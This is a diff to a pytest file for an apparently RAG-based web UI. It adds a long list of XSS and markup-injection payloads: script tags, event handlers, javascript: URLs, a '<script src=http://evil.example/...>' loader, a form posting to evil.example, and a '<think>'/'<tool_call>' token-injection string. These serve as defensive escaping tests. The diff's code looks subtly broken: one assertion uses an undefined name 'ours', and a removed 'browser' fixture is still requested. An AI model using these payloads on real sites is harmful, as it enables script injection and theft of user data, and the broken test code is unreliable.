@@ -2,17 +2,20 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 
 import pytest
-from browser import PHONE, ask, chromium, needs_browser, serving, upload, window
+from browser import PHONE, Served, ask, library_served, needs_browser, serving, upload, window
 
 from pincite.index import Article
 from pincite.rag import open_library
 from pincite.ui import markup
-from pincite.ui.exchange import Exchange, exchanges
+from pincite.ui.exchange import Exchange, Pin
+from pincite.ui.talks import filters_of
 
 if TYPE_CHECKING:
     from playwright.sync_api import Browser
@@ -56,6 +59,76 @@ PAYLOADS = [
     "#pin=x/1/0-5 [1] [99] [[1]] [1](javascript:window.hit=1)",
     "left \u202egnp.exe\u202c right \u2066x\u2069 \u200b\ufeff",
     "\x00\x01\x1b[31m\x7f\x85\u2028\u2029\ufffe end",
+    "<script src=http://evil.example/f.js></script>",
+    "<ScRiPt>window.hit=1</sCrIpT>",
+    "<script/x>window.hit=1</script/x>",
+    "<<script>window.hit=1//<</script>",
+    "<script>window.hit=1",
+    "<img src=x onerror=window.hit=1//",
+    "<img srcset='http://evil.example/g.png 1x'>",
+    "<img src=`javascript:window.hit=1`>",
+    "<picture><source srcset=http://evil.example/h.png><img></picture>",
+    "<svg><script>window.hit=1</script></svg>",
+    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg onload=window.hit=1>#x'></use></svg>",
+    "<svg><foreignObject><body onload=window.hit=1></foreignObject></svg>",
+    "<svg><a xlink:href='javascript:window.hit=1'><text>x</text></a></svg>",
+    "<body onload=window.hit=1>",
+    "<input autofocus onfocus=window.hit=1>",
+    "<select autofocus onfocus=window.hit=1>",
+    "<textarea autofocus onfocus=window.hit=1>",
+    "<marquee onstart=window.hit=1>x</marquee>",
+    "<audio src=x onerror=window.hit=1>",
+    "<object data='javascript:window.hit=1'></object>",
+    "<embed src=http://evil.example/i.swf>",
+    "<applet code=x></applet>",
+    "<frameset onload=window.hit=1><frame src=http://evil.example/></frameset>",
+    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
+    '<iframe src="data:text/html,<script>parent.hit=1</script>"></iframe>',
+    "<dialog open>cover</dialog>",
+    "<dialog id=pc-case open><form action=http://evil.example/><button>ok</button></form></dialog>",
+    "<p id=pc-chips class=pc-veil style='position:fixed;inset:0'>cover</p>",
+    "<div class='pc-do pc-do-redo'>press</div><button class=pc-do>x</button>",
+    "<a class=pc-source href=http://evil.example/>1</a>",
+    "<a href='data:text/html,<script>window.hit=1</script>'>x</a>",
+    "<a href='vbscript:window.hit=1'>x</a>",
+    "<a href=' java\tscript:window.hit=1'>x</a>",
+    "<a target=_top href=//evil.example>x</a>",
+    "<area href=javascript:window.hit=1><map name=x></map>",
+    "<button formaction=javascript:window.hit=1>x</button>",
+    "<isindex action=javascript:window.hit=1>",
+    "<keygen autofocus onfocus=window.hit=1>",
+    "<template><script>window.hit=1</script></template>",
+    "<slot onslotchange=window.hit=1></slot>",
+    "<style>body{background:url(http://evil.example/j.png)}</style>",
+    "<div style=\"background:url('http://evil.example/k.png')\">x</div>",
+    "<div style='width:expression(window.hit=1)'>x</div>",
+    "<link rel=preload as=image href=http://evil.example/l.png>",
+    "<link rel=dns-prefetch href=//evil.example>",
+    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
+    "<xmp><img src=x onerror=window.hit=1></xmp>",
+    "<plaintext>",
+    "<listing>&lt;img onerror=window.hit=1 src=x&gt;</listing>",
+    "<?xml-stylesheet href='http://evil.example/m.css'?>",
+    "<!DOCTYPE html><html><head><title>mine</title>",
+    "[x]: javascript:window.hit=1 'y'\n\n[x]",
+    "<javascript:window.hit=1>",
+    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
+    "[![x](http://evil.example/n.png)](http://evil.example/)",
+    "![x](//evil.example/o.png =1x1)",
+    "<http://evil.example/> [a]: <http://evil.example/>",
+    "# one\n## two\n***\n> three\n- four\n1. five",
+    "\\<script>window.hit=1\\</script> \\[x\\](y)",
+    "&#60;img src=x onerror=window.hit=1&#62; &quot; &apos;",
+    "&amp;lt;script&amp;gt; %3Cscript%3E \\u003cscript\\u003e",
+    "```html\n<img src=x onerror=window.hit=1>\n```\n~~~\nx\n~~~",
+    "[^1] footnote\n\n[^1]: <img src=http://evil.example/p.png>",
+    "\\(\\href{javascript:window.hit=1}{x}\\) \\[\\includegraphics{http://evil.example/q.png}\\]",
+    ":::note\n<img src=x onerror=window.hit=1>\n:::",
+    "<think>window.hit=1</think><tool_call>x</tool_call>",
+    "\u202eevil\u202c \u061c\u200f\u2068 \u2069\u2067 end",
+    "Z\u0351\u036b\u0343\u036a\u0302a\u0320\u0345lgo \U0001f469\u200d\U0001f469\u200d\U0001f467 \ufdfa",
+    "a" * 4_000,
 ]
 
 
@@ -69,17 +142,22 @@ def test_escaped_text_leaves_html_and_markdown_nothing_to_act_on(payload: str) -
     assert not set(markup.escape(payload)) & set("<>\"'`*_[]()!|$\\{}~:/.\n\x00\u202e")
 
 
-@pytest.mark.parametrize("sent", [None, [], {}, "x", 7, [1], [{"question": 1}], [{"question": "a" * 50_000}]])
-def test_a_conversation_that_is_not_one_counts_as_none(sent: object) -> None:
-    assert exchanges(sent) == ()
+def test_every_part_of_an_answer_is_escaped() -> None:
+    pin = Pin(1, '"><script>', 1, 0, 3, "<b>", "<i>", "<u>", (0, 1), supported=False, why="<w>")
+    stage = {"name": "<n>", "ms": 1, "<k>": "<v>"}
+    trace = {"question": "<s>", "stages": [stage], "passages": [{"title": "<p>", "score": 1, "vector": "<r>"}]}
+    said = Exchange(
+        "<q>", "done", "", "<t> [1]\n<l> [1]", (pin,), (("<l>", (1,)),), model="<m>", confidence=0.5, trace=trace
+    )
+    html = markup.question(said) + markup.answer(said) + markup.answer(replace(said, refused=True, missing=("<x>",)))
+    assert re.findall(r"<[btiuwnkvsprqlmx]>|<script|\"><", html) == []
+    assert 'href="#pin=%22%3E%3Cscript%3E/1/0-3/0-1"' in html
 
 
-def test_a_conversation_sent_back_is_escaped_like_any_text() -> None:
-    pin = {"marker": 1, "article_id": '"><script>', "version": 1, "start": 0, "end": 1, "title": "<b>", "source": "<i>"}
-    (sent,) = exchanges([{"question": "<q>", "text": "<t> [1]", "state": "done", "pins": [pin]}])
-    html = markup.question(sent) + markup.answer(sent)
-    assert [part in html for part in ("<q>", "<t>", "<b>", "<i>", "<script>")] == [False] * 5
-    assert 'href="#pin=%22%3E%3Cscript%3E/1/0-1"' in html
+@pytest.mark.parametrize("chosen", [[], "x", {"article_ids": "x"}, {"article_ids": [1]}, {"since": "x"}, {"source": 1}])
+def test_chosen_articles_that_are_none_are_refused(chosen: Any) -> None:
+    with pytest.raises((ValueError, AttributeError)):
+        filters_of(chosen)
 
 
 def test_a_marker_without_its_place_is_only_text() -> None:
@@ -91,23 +169,15 @@ needs_browser()
 
 
 @pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with chromium() as browser:
-        yield browser
+def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    articles = (hostile(number, payload) for number, payload in enumerate(PAYLOADS))
+    with library_served(tmp_path_factory.mktemp("hostile"), articles, examples=PAYLOADS[:4]) as served:
+        yield served
 
 
-@pytest.fixture(scope="module")
-def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
-    with open_library(tmp_path_factory.mktemp("hostile")) as library:
-        outcomes = library.add_articles(hostile(number, payload) for number, payload in enumerate(PAYLOADS))
-        assert [outcome.status for outcome in outcomes] == ["added"] * len(PAYLOADS)
-        yield library
-
-
-@pytest.fixture(scope="module")
-def address(library: Library) -> Iterator[str]:
-    with serving(library, examples=PAYLOADS[:4]) as address:
-        yield address
+@pytest.fixture
+def library(served: Served) -> Library:
+    return served.library
 
 
 @pytest.mark.browser
@@ -118,9 +188,11 @@ def test_hostile_questions_and_answers_are_shown_literally(browser: Browser, add
             ask(page, f"How many lamps has the keeper of lighthouse {number} called {called}")
         asked = " ".join(page.locator("#pc-chat .pc-asked").all_inner_texts())
         assert [PAYLOADS[number] for number in (0, 1, 7, 9, 15, 27, 28, 33) if PAYLOADS[number] not in asked] == []
-        allowed = {"A", "B", "BDI", "BUTTON", "DIV", "LI", "P", "SPAN", "UL"}
+        allowed = set(
+            "A B BDI BUTTON DIV LI P SPAN UL OL MARK DETAILS SUMMARY TABLE CAPTION THEAD TBODY TR TH TD".split()
+        )
         tags = page.evaluate("[...document.querySelectorAll('#pc-chat .message *')].map((one) => one.tagName)")
-        assert set(tags) <= allowed
+        assert set(tags) <= set(ours)
         links = page.evaluate("[...document.querySelectorAll('#pc-chat a')].map((one) => one.getAttribute('href'))")
         assert [link for link in links if not link.startswith("#pin=")] == []
         assert page.evaluate("window.hit") is None
